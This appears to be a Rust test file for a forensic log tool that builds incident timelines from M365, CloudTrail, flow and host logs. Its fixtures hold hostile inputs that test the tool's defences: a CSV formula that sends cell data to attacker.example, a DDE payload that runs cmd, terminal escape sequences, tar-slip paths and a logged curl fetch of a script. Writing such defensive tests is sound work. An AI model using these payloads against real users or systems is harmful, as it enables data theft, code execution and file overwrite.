//! Logs into a case's timeline: the M365 incident example end to end, log
//! collection from moto (CloudTrail and flow logs in S3, flow logs in
//! CloudWatch Logs, S3 access logs), LookupEvents through a labelled stub,
//! host logs from a triage bundle.

use std::collections::{BTreeMap, BTreeSet};
use std::io::Write;
use std::path::Path;

use serde_json::Value;

use crate::common::{Home, custody_aws, emulator, stderr};
use crate::fault_proxy::{Fault, FaultProxy, Rule};

pub(crate) fn generate(out: &Path) -> Value {
    let script = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/examples/m365-incident/generate.py"
    );
    let o = std::process::Command::new("python3")
        .arg(script)
        .arg(out)
        .output()
        .expect("run python3");
    assert!(o.status.success(), "generate.py: {}", stderr(&o));
    serde_json::from_slice(&std::fs::read(out.join("truth.json")).expect("truth")).expect("json")
}

fn strs(v: &Value) -> Vec<String> {
    v.as_array()
        .expect("array")
        .iter()
        .map(|s| s.as_str().expect("string").to_owned())
        .collect()
}

/// Record ids of a finding's events.
fn record_ids(f: &Value) -> BTreeSet<String> {
    f["events"]
        .as_array()
        .expect("events")
        .iter()
        .map(|e| e["record_id"].as_str().expect("record id").to_owned())
        .collect()
}

#[test]
fn the_m365_example_gives_exactly_the_expected_findings_pivots_and_counts() {
    let home = Home::new();
    let data = home.path().join("m365");
    let truth = generate(&data);
    let geoip = data.join("geoip.mmdb");
    let ual = home.json(&[
        "logs",
        "import",
        "--format",
        "ual-csv",
        "--case",
        "m365",
        "--geoip",
        geoip.to_str().unwrap(),
        data.join("ual.csv").to_str().unwrap(),
    ]);
    let t = &ual["timeline"][0];
    assert_eq!(t["events"], truth["ual_unique"], "{t:#}");
    assert_eq!(t["duplicates"], truth["duplicates"]);
    assert_eq!(t["problems"], 0, "{t:#}");
    assert_eq!(t["per_hour"], truth["ual_per_hour"]);
    assert_eq!(ual["artefacts"][0]["source"]["log_format"], "ual-csv");
    let entra = home.json(&[
        "logs",
        "import",
        "--format",
        "entra-signin",
        "--case",
        "m365",
        "--geoip",
        geoip.to_str().unwrap(),
        data.join("entra-signins.json").to_str().unwrap(),
    ]);
    assert_eq!(entra["timeline"][0]["events"], truth["entra_rows"]);

    // Findings: exactly the expected accounts and rows, and nothing else.
    let found = home.json(&["findings", "m365"]);
    let mut by_kind: BTreeMap<String, Vec<&Value>> = BTreeMap::new();
    for f in found["findings"].as_array().unwrap() {
        by_kind
            .entry(f["kind"].as_str().unwrap().to_owned())
            .or_default()
            .push(f);
    }
    let tf = &truth["findings"];
    assert_eq!(
        by_kind.keys().cloned().collect::<Vec<_>>(),
        [
            "legacy_after_lockout",
            "mail_burst",
            "new_asn_then_rule",
            "shared_source_asn",
            "shared_source_ip"
        ]
    );
    for (kind, key) in [
        ("shared_source_ip", "shared_source_ip"),
        ("shared_source_asn", "shared_source_asn"),
    ] {
        let got: BTreeMap<String, (Vec<String>, BTreeSet<String>)> = by_kind[kind]
            .iter()
            .map(|f| {
                (
                    f["source"].as_str().unwrap().to_owned(),
                    (strs(&f["accounts"]), record_ids(f)),
                )
            })
            .collect();
        let want: BTreeMap<String, (Vec<String>, BTreeSet<String>)> = tf[key]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| {
                (
                    f["source"].as_str().unwrap().to_owned(),
                    (strs(&f["accounts"]), strs(&f["rows"]).into_iter().collect()),
                )
            })
            .collect();
        assert_eq!(got, want, "{kind}");
    }
    // Per-account findings as (account, the record ids of its rows).
    let per_account = |kind: &str| -> BTreeSet<(String, BTreeSet<String>)> {
        assert_eq!(
            by_kind[kind].len(),
            tf[kind].as_array().unwrap().len(),
            "{kind}: one finding each"
        );
        by_kind[kind]
            .iter()
            .map(|f| (f["accounts"][0].as_str().unwrap().to_owned(), record_ids(f)))
            .collect()
    };
    let got = per_account("new_asn_then_rule");
    let want: BTreeSet<(String, BTreeSet<String>)> = tf["new_asn_then_rule"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            let ids = [f["signin"].as_str().unwrap(), f["rule"].as_str().unwrap()];
            (
                f["account"].as_str().unwrap().to_owned(),
                ids.iter().map(|s| (*s).to_owned()).collect(),
            )
        })
        .collect();
    assert_eq!(got, want, "new_asn_then_rule");
    let got = per_account("mail_burst");
    let want: BTreeSet<(String, BTreeSet<String>)> = tf["mail_burst"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            let mut ids: BTreeSet<String> = strs(&f["sends"]).into_iter().collect();
            ids.insert(f["signin"].as_str().unwrap().to_owned());
            (f["account"].as_str().unwrap().to_owned(), ids)
        })
        .collect();
    assert_eq!(got, want, "mail_burst");
    let got: Vec<(String, BTreeSet<String>)> = by_kind["legacy_after_lockout"]
        .iter()
        .map(|f| (f["accounts"][0].as_str().unwrap().to_owned(), record_ids(f)))
        .collect();
    let l = &tf["legacy_after_lockout"][0];
    let mut ids: BTreeSet<String> = strs(&l["attempts"]).into_iter().collect();
    ids.insert(l["lockout"].as_str().unwrap().to_owned());
    assert_eq!(got, vec![(l["account"].as_str().unwrap().to_owned(), ids)]);
    // Every finding row leads back to hashed evidence.
    let artefacts: BTreeSet<String> = [&ual, &entra]
        .iter()
        .map(|r| r["artefacts"][0]["id"].as_str().unwrap().to_owned())
        .collect();
    for f in found["findings"].as_array().unwrap() {
        for e in f["events"].as_array().unwrap() {
            assert!(artefacts.contains(e["artefact"].as_str().unwrap()), "{e:#}");
            assert!(
                e["locator"].as_str().unwrap().starts_with("row ")
                    || e["locator"].as_str().unwrap().starts_with("value["),
                "{e:#}"
            );
        }
    }

    // Pivots, with first and last times.
    let seen = |v: &Value, key: &str| -> Vec<(String, String, String)> {
        v.as_array()
            .unwrap()
            .iter()
            .map(|s| {
                (
                    s[key].as_str().unwrap().to_owned(),
                    s["first"].as_str().unwrap().to_owned(),
                    s["last"].as_str().unwrap().to_owned(),
                )
            })
            .collect()
    };
    let sorted = |mut v: Vec<(String, String, String)>| {
        v.sort();
        v
    };
    for (ip, want) in truth["pivot_ip"].as_object().unwrap() {
        let got = home.json(&["pivot", "m365", "--ip", ip]);
        assert_eq!(
            sorted(seen(&got["seen"], "value")),
            sorted(seen(want, "account")),
            "pivot --ip {ip}"
        );
    }
    for (asn, want) in truth["pivot_asn"].as_object().unwrap() {
        let got = home.json(&["pivot", "m365", "--asn", &format!("AS{asn}")]);
        assert_eq!(
            sorted(seen(&got["seen"], "value")),
            sorted(seen(want, "account")),
            "pivot --asn {asn}"
        );
    }
    for (upn, want) in truth["pivot_account"].as_object().unwrap() {
        let got = home.json(&["pivot", "m365", "--account", upn]);
        assert_eq!(
            sorted(seen(&got["seen"], "value")),
            sorted(seen(want, "ip")),
            "pivot --account {upn}"
        );
    }

    // The query language, facets and the Teams session.
    let teams = home.json(&[
        "timeline",
        "m365",
        "action:TeamsSessionStarted",
        "ip:203.0.113.64/26",
        "--facets",
        "actor,asn",
    ]);
    assert_eq!(teams["total"], 1);
    assert_eq!(
        teams["rows"][0]["record_id"],
        truth["findings"]["teams_session"]
    );
    assert_eq!(teams["rows"][0]["asn"], 64511);
    assert_eq!(teams["facets"][0]["values"][0]["value"], "bob@contoso.com");
    let phish = home.json(&[
        "timeline",
        "m365",
        "actor:alice@contoso.com",
        "action:Send",
        "after:2021-06-03",
        "before:2021-06-04",
        "invoice",
        "--histogram",
        "1h",
        "--limit",
        "0",
    ]);
    assert_eq!(phish["total"], 60);
    assert_eq!(phish["histogram"][0]["start"], "2021-06-03T08:00:00Z");

    // A saved search, run again by a new process.
    let saved = home.run(&[
        "timeline",
        "m365",
        "--save",
        "rules",
        "--facets",
        "actor",
        "--",
        "action:New-InboxRule",
        "-action:Set-Mailbox",
    ]);
    assert!(saved.status.success(), "{}", stderr(&saved));
    let again = home.json(&["timeline", "m365", "--saved", "rules"]);
    assert_eq!(again["query"], "action:New-InboxRule -action:Set-Mailbox");
    assert_eq!(
        again["total"], 14,
        "four victims' rules and ten ordinary users' rules"
    );
    assert_eq!(again["facets"][0]["field"], "actor");
    let list = home.json(&["timeline", "m365", "--searches"]);
    assert_eq!(list[0]["name"], "rules");

    // Exports: CSV and Timesketch JSON lines, every row.
    let csv = home.run(&[
        "timeline",
        "m365",
        "action:New-InboxRule",
        "--format",
        "csv",
    ]);
    let text = String::from_utf8(csv.stdout).unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    assert_eq!(reader.headers().unwrap().get(0), Some("time"));
    assert_eq!(reader.records().count(), 14);
    let ts = home.run(&[
        "timeline",
        "m365",
        "action:New-InboxRule",
        "--format",
        "timesketch",
    ]);
    let lines: Vec<Value> = String::from_utf8(ts.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 14);
    for l in &lines {
        for k in [
            "message",
            "datetime",
            "timestamp_desc",
            "artefact",
            "locator",
        ] {
            assert!(l[k].is_string(), "{k} in {l:#}");
        }
    }

    // A file of another format: kept as evidence, but an error naming the problem.
    let wrong = home.run(&[
        "logs",
        "import",
        "--format",
        "cloudtrail",
        "--case",
        "m365",
        data.join("entra-signins.json").to_str().unwrap(),
    ]);
    assert_eq!(wrong.status.code(), Some(2));
    assert!(
        stderr(&wrong).contains("read as cloudtrail gave no event"),
        "{}",
        stderr(&wrong)
    );
    assert!(
        stderr(&wrong).contains("no top-level Records array"),
        "{}",
        stderr(&wrong)
    );
    // A case never loaded is named, not shown as empty.
    let none = home.run(&["timeline", "nosuchcase", "action:Send"]);
    assert_eq!(none.status.code(), Some(2));
    assert!(
        stderr(&none).contains("case nosuchcase has no timeline"),
        "{}",
        stderr(&none)
    );
    assert!(!home.path().join("timeline/nosuchcase.sqlite").exists());
    // A bad query names what is wrong, exit code 2.
    let bad = home.run(&["timeline", "m365", "actr:alice"]);
    assert_eq!(bad.status.code(), Some(2));
    assert!(
        stderr(&bad).contains("unknown field `actr`"),
        "{}",
        stderr(&bad)
    );
}

fn gz(bytes: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(bytes).unwrap();
    e.finish().unwrap()
}

fn trail_record(i: usize, time: &str, name: &str, ip: &str) -> Value {
    serde_json::json!({
        "eventVersion": "1.08",
        "userIdentity": {"type": "IAMUser", "principalId": "AIDAEXAMPLE", "arn": format!("arn:aws:iam::111122223333:user/u{i}"),
                          "accountId": "111122223333", "userName": format!("u{i}")},
        "eventTime": time, "eventSource": "iam.amazonaws.com", "eventName": name, "awsRegion": "us-east-1",
        "sourceIPAddress": ip, "userAgent": "aws-cli/2.2.0", "requestParameters": null, "responseElements": null,
        "requestID": format!("req-{i}"), "eventID": format!("00000000-0000-0000-0000-{i:012}"),
        "readOnly": false, "eventType": "AwsApiCall", "managementEvent": true, "recipientAccountId": "111122223333"
    })
}

fn trail_file(records: &[Value]) -> Vec<u8> {
    serde_json::to_vec(&serde_json::json!({ "Records": records })).unwrap()
}

fn s3_client(endpoint: &str) -> aws_sdk_s3::Client {
    let conf = crate::common::aws_conf(endpoint);
    aws_sdk_s3::Client::from_conf(
        aws_sdk_s3::config::Builder::from(&conf)
            .force_path_style(true)
            .build(),
    )
}

async fn put(s3: &aws_sdk_s3::Client, bucket: &str, key: &str, body: Vec<u8>) {
    s3.put_object()
        .bucket(bucket)
        .key(key)
        .body(body.into())
        .send()
        .await
        .unwrap();
}

fn unique(prefix: &str) -> String {
    format!("{prefix}-{}", uuid::Uuid::new_v4().simple())
        .chars()
        .take(40)
        .collect()
}

#[test]
fn cloudtrail_logs_and_digests_come_from_the_trail_bucket_and_a_cut_file_is_reported() {
    let Some(endpoint) = emulator("CUSTODY_TEST_S3_ENDPOINT") else {
        return;
    };
    let rt = tokio::runtime::Runtime::new().unwrap();
    let s3 = s3_client(&endpoint);
    let bucket = unique("trail");
    let base = "org/AWSLogs/111122223333/CloudTrail/us-east-1";
    let day1 = trail_file(&[
        trail_record(1, "2021-06-01T08:00:00Z", "CreateUser", "203.0.113.7"),
        trail_record(2, "2021-06-01T08:05:00Z", "AttachUserPolicy", "203.0.113.7"),
    ]);
    let day2 = trail_file(&[trail_record(
        3,
        "2021-06-02T09:00:00Z",
        "ConsoleLogin",
        "198.51.100.4",
    )]);
    // A file cut in the middle of its third record (gzip of a cut JSON file).
    let cut_src = trail_file(&[
        trail_record(4, "2021-06-02T10:00:00Z", "CreateAccessKey", "203.0.113.7"),
        trail_record(5, "2021-06-02T10:01:00Z", "PutBucketPolicy", "203.0.113.7"),
        trail_record(6, "2021-06-02T10:02:00Z", "DeleteTrail", "203.0.113.7"),
    ]);
    let cut_at = cut_src.len() - 200;
    let cut = gz(&cut_src[..cut_at]);
    let outside = trail_file(&[trail_record(
        7,
        "2021-06-09T00:00:00Z",
        "CreateUser",
        "192.0.2.1",
    )]);
    let digest = br#"{"awsAccountId":"111122223333","digestStartTime":"2021-06-01T07:00:00Z","logFiles":[]}"#.to_vec();
    let keys = [
        format!("{base}/2021/06/01/111122223333_CloudTrail_us-east-1_20210601T0805Z_a.json.gz"),
        format!("{base}/2021/06/02/111122223333_CloudTrail_us-east-1_20210602T0900Z_b.json.gz"),
        format!("{base}/2021/06/02/111122223333_CloudTrail_us-east-1_20210602T1000Z_cut.json.gz"),
        format!("{base}/2021/06/09/111122223333_CloudTrail_us-east-1_20210609T0000Z_c.json.gz"),
        "org/AWSLogs/111122223333/CloudTrail-Digest/us-east-1/2021/06/01/111122223333_CloudTrail-Digest_us-east-1_main_us-east-1_20210601T080000Z.json.gz".to_owned(),
    ];
    rt.block_on(async {
        s3.create_bucket().bucket(&bucket).send().await.unwrap();
        put(&s3, &bucket, &keys[0], gz(&day1)).await;
        put(&s3, &bucket, &keys[1], gz(&day2)).await;
        put(&s3, &bucket, &keys[2], cut).await;
        put(&s3, &bucket, &keys[3], gz(&outside)).await;
        put(&s3, &bucket, &keys[4], gz(&digest)).await;
    });
    let home = Home::new();
    let out = custody_aws(
        &home,
        &endpoint,
        &[
            "--json",
            "logs",
            "cloudtrail",
            "--bucket",
            &bucket,
            "--prefix",
            "org",
            "--since",
            "2021-06-01",
            "--until",
            "2021-06-02T23:59:59Z",
            "--case",
            "trail",
        ],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let r: Value = serde_json::from_slice(&out.stdout).unwrap();
    let a = &r["artefacts"][0];
    assert_eq!(a["kind"], "log_bundle");
    assert_eq!(a["source"]["log_format"], "cloudtrail");
    let t = &r["timeline"][0];
    // Three whole records, plus those of the cut file before the cut (two).
    assert_eq!(t["events"], 5, "{t:#}");
    assert_eq!(t["problems"], 1, "the cut record: {t:#}");
    for p in t["problem_samples"].as_array().unwrap() {
        assert_eq!(p["member"], keys[2].as_str(), "{p:#}");
    }
    assert!(
        t["problem_samples"]
            .as_array()
            .unwrap()
            .iter()
            .any(|p| p["locator"].as_str().unwrap().starts_with("Records[2]")),
        "{t:#}"
    );
    // The bundle holds every object byte for byte, the digest file included, and an index.
    let bundle = home.path().join("bundle.tar");
    let exp = home.run(&[
        "export",
        "trail",
        a["id"].as_str().unwrap(),
        "--output",
        bundle.to_str().unwrap(),
    ]);
    assert!(exp.status.success(), "{}", stderr(&exp));
    let mut tar = tar::Archive::new(std::fs::File::open(&bundle).unwrap());
    let mut members = BTreeMap::new();
    for e in tar.entries().unwrap() {
        let mut e = e.unwrap();
        let p = e.path().unwrap().to_string_lossy().into_owned();
        let mut b = Vec::new();
        std::io::Read::read_to_end(&mut e, &mut b).unwrap();
        members.insert(p, b);
    }
    assert_eq!(members[&keys[0]], gz(&day1));
    assert_eq!(members[&keys[4]], gz(&digest));
    assert!(
        !members.contains_key(&keys[3]),
        "a day outside the window is not collected"
    );
    let index: Value = serde_json::from_slice(&members["index.json"]).unwrap();
    assert_eq!(index["objects"].as_array().unwrap().len(), 4);
    // The events are searchable and lead back to their member and record.
    let q = home.json(&[
        "timeline",
        "trail",
        "ip:203.0.113.0/24",
        "source:cloudtrail",
    ]);
    assert_eq!(q["total"], 4);
    assert_eq!(q["rows"][0]["member"], keys[0].as_str());
    assert_eq!(q["rows"][0]["locator"], "Records[0]");
    assert_eq!(q["rows"][0]["actor"], "arn:aws:iam::111122223333:user/u1");
    // Loading the case again adds nothing; a rebuild gives the same timeline.
    let again = home.json(&["logs", "index", "trail"]);
    assert_eq!(again["timeline"][0]["already"], true);
    let rebuilt = home.json(&["logs", "index", "trail", "--rebuild"]);
    assert_eq!(rebuilt["timeline"][0]["events"], 5);
}

#[test]
fn lookup_events_pages_at_two_requests_per_second_through_a_stub() {
    let Some(endpoint) = emulator("CUSTODY_TEST_S3_ENDPOINT") else {
        return;
    };
    let rt = tokio::runtime::Runtime::new().unwrap();
    // STUB: moto does not implement CloudTrail LookupEvents. The proxy
    // answers it with five pages (two events each, NextToken chaining them);
    // nothing else goes to the stub.
    let (proxy, via) = rt.block_on(FaultProxy::start(&endpoint));
    let pages = 5;
    for p in 0..pages {
        let events: Vec<Value> = (0..2)
            .map(|i| {
                let n = p * 2 + i + 1;
                let rec = trail_record(
                    n,
                    &format!("2021-06-01T0{p}:00:0{i}Z"),
                    "ConsoleLogin",
                    "203.0.113.9",
                );
                serde_json::json!({"EventId": format!("e{n}"), "EventName": "ConsoleLogin",
                                   "CloudTrailEvent": rec.to_string()})
            })
            .collect();
        let mut body = serde_json::json!({ "Events": events });
        if p + 1 < pages {
            body["NextToken"] = format!("page-{}", p + 1).into();
        }
        proxy.rule(Rule {
            op: "LookupEvents",
            path: "",
            pass: 0,
            times: 1,
            fault: Fault::Json(200, body.to_string()),
        });
    }
    let home = Home::new();
    let started = std::time::Instant::now();
    let out = custody_aws(
        &home,
        &via,
        &[
            "--json",
            "logs",
            "lookup",
            "--region",
            "us-east-1",
            "--since",
            "2021-06-01",
            "--until",
            "2021-06-02",
            "--case",
            "lookup",
        ],
    );
    let took = started.elapsed();
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        proxy.count("LookupEvents"),
        5,
        "one request per page, no more"
    );
    // Two requests at once, then one every half second: a floor, not a speed target.
    assert!(
        took >= std::time::Duration::from_millis(1400),
        "5 pages at 2/s took {took:?}"
    );
    let r: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(
        r["artefacts"][0]["source"]["log_format"],
        "cloudtrail-lookup"
    );
    assert_eq!(r["timeline"][0]["events"], 10);
    let q = home.json(&["timeline", "lookup", "action:ConsoleLogin", "--limit", "1"]);
    assert_eq!(q["rows"][0]["locator"], "line 1");
}

#[test]
fn flow_logs_from_s3_and_cloudwatch_and_s3_access_logs() {
    let Some(endpoint) = emulator("CUSTODY_TEST_S3_ENDPOINT") else {
        return;
    };
    let rt = tokio::runtime::Runtime::new().unwrap();
    let s3 = s3_client(&endpoint);
    let bucket = unique("flow");
    let flow = "version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status\n\
                2 111122223333 eni-0a1b2c3d 203.0.113.12 10.0.1.5 51544 22 6 10 840 1622534400 1622534460 REJECT OK\n\
                2 111122223333 eni-0a1b2c3d 10.0.1.5 198.51.100.3 443 49152 6 20 4000 1622534400 1622534460 ACCEPT OK\n";
    let access = "79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be logs-src [01/Jun/2021:10:00:00 +0000] 203.0.113.12 \
                  arn:aws:iam::111122223333:user/alice 3E57427F3EXAMPLE REST.GET.OBJECT secrets/db.txt \"GET /logs-src/secrets/db.txt HTTP/1.1\" \
                  200 - 1024 1024 12 11 \"-\" \"aws-cli/2.2.0\" - hostid= SigV4 ECDHE-RSA-AES128-GCM-SHA256 AuthHeader logs-src.s3.amazonaws.com TLSv1.2 - -\n";
    rt.block_on(async {
        s3.create_bucket().bucket(&bucket).send().await.unwrap();
        put(&s3, &bucket, "AWSLogs/111122223333/vpcflowlogs/us-east-1/2021/06/01/111122223333_vpcflowlogs_us-east-1_fl-1_20210601T0800Z_x.log.gz", gz(flow.as_bytes())).await;
        put(&s3, &bucket, "access/2021-06-01-10-00-00-ABCDEF0123456789", access.as_bytes().to_vec()).await;
        put(&s3, &bucket, "access/2021-07-01-10-00-00-ABCDEF0123456789", access.as_bytes().to_vec()).await;
    });
    let home = Home::new();
    let run = |args: &[&str]| -> Value {
        let out = custody_aws(&home, &endpoint, args);
        assert!(out.status.success(), "{args:?}: {}", stderr(&out));
        serde_json::from_slice(&out.stdout).unwrap()
    };
    let f = run(&[
        "--json",
        "logs",
        "vpc-flow",
        "--bucket",
        &bucket,
        "--since",
        "2021-06-01",
        "--until",
        "2021-06-02",
        "--case",
        "net",
    ]);
    assert_eq!(f["timeline"][0]["events"], 2, "{f:#}");
    let a = run(&[
        "--json",
        "logs",
        "s3-access",
        "--bucket",
        &bucket,
        "--prefix",
        "access/",
        "--since",
        "2021-06-01",
        "--until",
        "2021-06-02",
        "--case",
        "net",
    ]);
    assert_eq!(
        a["timeline"][0]["events"], 1,
        "the July file is outside the window: {a:#}"
    );

    // Flow logs in CloudWatch Logs (moto implements FilterLogEvents).
    let group = unique("/vpc/flow");
    let now_ms = time::OffsetDateTime::now_utc().unix_timestamp() * 1000;
    rt.block_on(async {
        let logs = aws_sdk_cloudwatchlogs::Client::new(&crate::common::aws_conf(&endpoint));
        logs.create_log_group().log_group_name(&group).send().await.unwrap();
        logs.create_log_stream().log_group_name(&group).log_stream_name("eni-0a1b2c3d-all").send().await.unwrap();
        let secs = now_ms / 1000;
        let ev = |m: String, t: i64| aws_sdk_cloudwatchlogs::types::InputLogEvent::builder().message(m).timestamp(t).build().unwrap();
        logs.put_log_events()
            .log_group_name(&group)
            .log_stream_name("eni-0a1b2c3d-all")
            .log_events(ev(format!("2 111122223333 eni-0a1b2c3d 203.0.113.12 10.0.1.5 51544 22 6 10 840 {} {} REJECT OK", secs - 60, secs), now_ms - 60_000))
            .log_events(ev(format!("2 111122223333 eni-0a1b2c3d 203.0.113.13 10.0.1.5 51545 22 6 10 840 {} {} REJECT OK", secs - 30, secs), now_ms - 30_000))
            .send()
            .await
            .unwrap();
    });
    let since = crate::timeline_time(now_ms - 3_600_000);
    let c = run(&[
        "--json",
        "logs",
        "vpc-flow",
        "--log-group",
        &group,
        "--since",
        &since,
        "--case",
        "net",
    ]);
    assert_eq!(
        c["artefacts"][0]["source"]["log_format"],
        "vpc-flow-cloudwatch"
    );
    assert_eq!(c["timeline"][0]["events"], 2, "{c:#}");
    let q = home.json(&["timeline", "net", "ip:203.0.113.0/24", "--facets", "source"]);
    // One S3 flow record and both CloudWatch ones come from there, and the access log line.
    assert_eq!(q["total"], 4);
    let sources: BTreeMap<String, u64> = q["facets"][0]["values"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| {
            (
                v["value"].as_str().unwrap().to_owned(),
                v["count"].as_u64().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        sources,
        BTreeMap::from([("s3_access".to_owned(), 1), ("vpc_flow".to_owned(), 3)])
    );
}

#[test]
fn host_logs_of_a_triage_bundle_join_the_timeline() {
    let home = Home::new();
    let root = home.path().join("root");
    std::fs::create_dir_all(root.join("var/log")).unwrap();
    std::fs::write(
        root.join("var/log/auth.log"),
        "Jun  1 08:00:01 web1 sshd[811]: Failed password for invalid user admin from 203.0.113.50 port 40022 ssh2\n\
         Jun  1 08:00:09 web1 sshd[811]: Accepted publickey for deploy from 203.0.113.50 port 40031 ssh2: RSA SHA256:abc\n\
         Jun  1 08:01:00 web1 sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/curl http://203.0.113.50/x.sh\n",
    )
    .unwrap();
    let acq = home.run(&[
        "acquire",
        "host",
        "--case",
        "hostcase",
        "--root",
        root.to_str().unwrap(),
    ]);
    assert!(acq.status.success(), "{}", stderr(&acq));
    let idx = home.json(&["logs", "index", "hostcase"]);
    let t = &idx["timeline"][0];
    assert_eq!(t["format"], "host-bundle");
    assert_eq!(t["events"], 3, "{t:#}");
    let q = home.json(&["timeline", "hostcase", "ip:203.0.113.50"]);
    let actions: Vec<&str> = q["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["action"].as_str().unwrap())
        .collect();
    assert_eq!(actions, ["sshd.failed", "sshd.accepted"]);
    assert_eq!(q["rows"][0]["member"], "files/var/log/auth.log");
    assert_eq!(q["rows"][0]["locator"], "line 1");
    let sudo = home.json(&["timeline", "hostcase", "action:sudo", "curl"]);
    assert_eq!(sudo["total"], 1);
}

/// A sign-in export whose values a hostile user chose, imported into case c1.
fn hostile_signins(home: &Home, upn: &str, user_agent: &str, app: &str) {
    let signin = serde_json::json!({"value": [{
        "id": "s-1",
        "createdDateTime": "2021-06-02T09:12:33Z",
        "userPrincipalName": upn,
        "userAgent": user_agent,
        "ipAddress": "203.0.113.10",
        "appDisplayName": app,
        "status": {"errorCode": 0},
    }]});
    let file = home.path().join("signins.json");
    std::fs::write(&file, signin.to_string()).unwrap();
    let out = home.run(&[
        "logs",
        "import",
        "--format",
        "entra-signin",
        "--case",
        "c1",
        file.to_str().unwrap(),
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
}

#[test]
fn t1_timeline_csv_cells_cannot_start_a_formula() {
    let home = Home::new();
    let formula = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"details\")";
    let dde = "@SUM(1+1)*cmd|' /C calc'!A0";
    hostile_signins(&home, dde, formula, "+Office 365 Exchange Online");
    let rows = |extra: &[&str]| -> Vec<Vec<String>> {
        let mut args = vec!["timeline", "c1", "--format", "csv"];
        args.extend_from_slice(extra);
        let out = home.run(&args);
        assert!(out.status.success(), "{}", stderr(&out));
        csv::Reader::from_reader(&out.stdout[..])
            .records()
            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
            .collect()
    };
    let neutral = rows(&[]);
    assert_eq!(neutral.len(), 1);
    for cell in &neutral[0] {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a cell a spreadsheet would run: {cell:?}"
        );
    }
    assert!(neutral[0].contains(&format!("'{formula}")), "{neutral:?}");
    assert!(neutral[0].contains(&format!("'{dde}")), "{neutral:?}");
    // --raw-csv: the values exactly as recorded.
    let raw = rows(&["--raw-csv"]);
    assert!(raw[0].iter().any(|c| c == formula), "{raw:?}");
    assert!(raw[0].iter().any(|c| c == dde), "{raw:?}");
}

#[test]
fn t2_table_output_escapes_control_characters_and_json_keeps_them() {
    let home = Home::new();
    let upn = "alice@contoso.com\u{1b}[2K\u{1b}[1A\u{1b}]0;owned\u{7}";
    hostile_signins(&home, upn, "ua\u{9b}31m", "Exchange\u{1b}[8m hidden");
    for args in [
        &["timeline", "c1", "--facets", "actor"][..],
        &["pivot", "c1", "--ip", "203.0.113.10"],
        &["pivot", "c1", "--account", upn],
        &["findings", "c1"],
    ] {
        let out = home.run(args);
        assert!(out.status.success(), "{args:?}: {}", stderr(&out));
        let text = String::from_utf8(out.stdout).unwrap();
        assert!(
            !text.chars().any(|c| c.is_control() && c != '\n'),
            "{args:?} sent control characters to the terminal: {text:?}"
        );
        if args[0] != "findings" {
            assert!(
                text.contains(r"alice@contoso.com\u{1b}[2K"),
                "{args:?}: {text}"
            );
        }
    }
    // JSON is for programs: the value exactly as recorded (serde escapes it).
    let j = home.json(&["timeline", "c1"]);
    assert_eq!(j["rows"][0]["actor"], upn);
}

/// Every member of a tar as (path bytes, content).
fn tar_members(path: &Path) -> Vec<(Vec<u8>, Vec<u8>)> {
    let mut tar = tar::Archive::new(std::fs::File::open(path).unwrap());
    tar.entries()
        .unwrap()
        .map(|e| {
            let mut e = e.unwrap();
            let name = e.path_bytes().into_owned();
            let mut b = Vec::new();
            std::io::Read::read_to_end(&mut e, &mut b).unwrap();
            (name, b)
        })
        .collect()
}

#[test]
fn p2_an_s3_key_with_dot_dot_is_stored_under_a_safe_name_and_the_rest_collected() {
    let Some(endpoint) = emulator("CUSTODY_TEST_S3_ENDPOINT") else {
        return;
    };
    let rt = tokio::runtime::Runtime::new().unwrap();
    let s3 = s3_client(&endpoint);
    let bucket = unique("trail");
    let day = "AWSLogs/111122223333/CloudTrail/us-east-1/2021/06/01/";
    let good = format!("{day}111122223333_CloudTrail_us-east-1_20210601T0800Z_good.json.gz");
    let record = trail_file(&[trail_record(
        1,
        "2021-06-01T08:00:00Z",
        "CreateUser",
        "203.0.113.10",
    )]);
    // Legal S3 keys an attacker who can write to the bucket can plant: a
    // `..` segment (tar-rs refused it and the whole collection failed), a
    // doubled `/`, and a `..` past byte 100 (a GNU long name: tar-slip).
    let odd = [
        format!("{day}../x.json"),
        format!("{day}/y.json"),
        format!(
            "{day}{}/../../../../../../../../../tmp/slip.json",
            "a".repeat(100)
        ),
    ];
    rt.block_on(async {
        s3.create_bucket().bucket(&bucket).send().await.unwrap();
        put(&s3, &bucket, &good, gz(&record)).await;
        for k in &odd {
            put(&s3, &bucket, k, b"{}".to_vec()).await;
        }
    });
    let home = Home::new();
    let out = custody_aws(
        &home,
        &endpoint,
        &[
            "--json",
            "logs",
            "cloudtrail",
            "--bucket",
            &bucket,
            "--account",
            "111122223333",
            "--region",
            "us-east-1",
            "--since",
            "2021-06-01",
            "--until",
            "2021-06-01T23:59:59Z",
            "--case",
            "p2",
        ],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let r: Value = serde_json::from_slice(&out.stdout).unwrap();
    let a = &r["artefacts"][0];
    assert_eq!(r["timeline"][0]["events"], 1, "{r:#}");
    let notes = a["notes"].to_string();
    assert!(notes.contains("not a safe path"), "{notes}");
    let bundle = home.path().join("bundle.tar");
    let exp = home.run(&[
        "export",
        "p2",
        a["id"].as_str().unwrap(),
        "--output",
        bundle.to_str().unwrap(),
    ]);
    assert!(exp.status.success(), "{}", stderr(&exp));
    let members = tar_members(&bundle);
    // No member a naive extractor would place outside its directory.
    for (name, _) in &members {
